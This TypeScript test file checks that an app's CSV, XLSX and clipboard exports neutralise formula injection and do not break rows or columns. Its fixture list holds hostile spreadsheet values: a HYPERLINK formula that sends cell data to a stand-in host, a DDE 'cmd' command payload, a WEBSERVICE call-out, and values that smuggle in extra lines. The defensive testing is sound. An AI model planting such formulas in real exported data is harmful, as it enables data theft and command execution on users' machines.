import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutralised, textOf } from '#renderer/sheets/cell.ts';
import { commaSeparated, spreadsheet } from '#renderer/sheets/saveSheet.ts';

/** What a name, a note or a file name could hold so that a spreadsheet calculates, calls out or breaks the line. */
const attacks = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '|calc',
  '%0A=1+1',
  '=HYPERLINK("http://x.invalid/?"&A1,"看")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://x.invalid")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '王\n=1+1',
  '王\t=1+1',
  '",=1+1,"',
  '王","=1+1',
  '\u2028=1+1',
] as const;

const starts = /^[\s"]*[=+\-@＝＋－＠|%]/u;
const sheet = { name: '表', lines: [['姓名', '備註'], ...attacks.map((attack) => [attack, attack])] };

describe('whatever leaves as a sheet', () => {
  it('has no cell that begins a formula in .csv, and no more lines or columns than were meant', async () => {
    const text = (await commaSeparated(sheet).text()).replace(/^\ufeff/, '');
    const { data } = Papa.parse<string[]>(text, { skipEmptyLines: true });
    expect(data).toHaveLength(sheet.lines.length);
    for (const line of data) {
      expect(line).toHaveLength(2);
      for (const cell of line) expect(cell).not.toMatch(starts);
    }
  });

  it('has texts only in .xlsx, no formula', async () => {
    const parts = unzipSync(new Uint8Array(await (await spreadsheet([sheet])).arrayBuffer()));
    const written = Object.entries(parts).map(([name, part]) => [name, strFromU8(part)] as const);
    const cells = written
      .filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name))
      .map(([, text]) => text);
    expect(cells).toHaveLength(1);
    expect(cells[0]).not.toMatch(/<f[ >]/);
    const texts = written.flatMap(([, text]) =>
      [...text.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, one]) => one!),
    );
    // A workbook has each text once.
    expect(texts).toHaveLength(new Set(sheet.lines.flat().map(neutralised)).size);
    for (const text of texts) expect(text).not.toMatch(starts);
  });

  it('pastes as the lines and columns that were meant, none of them a formula', () => {
    const lines = textOf(sheet.lines).split('\n');
    expect(lines).toHaveLength(sheet.lines.length);
    for (const line of lines) {
      expect(line.split('\t')).toHaveLength(2);
      for (const cell of line.split('\t')) expect(cell).not.toMatch(starts);
    }
  });
});
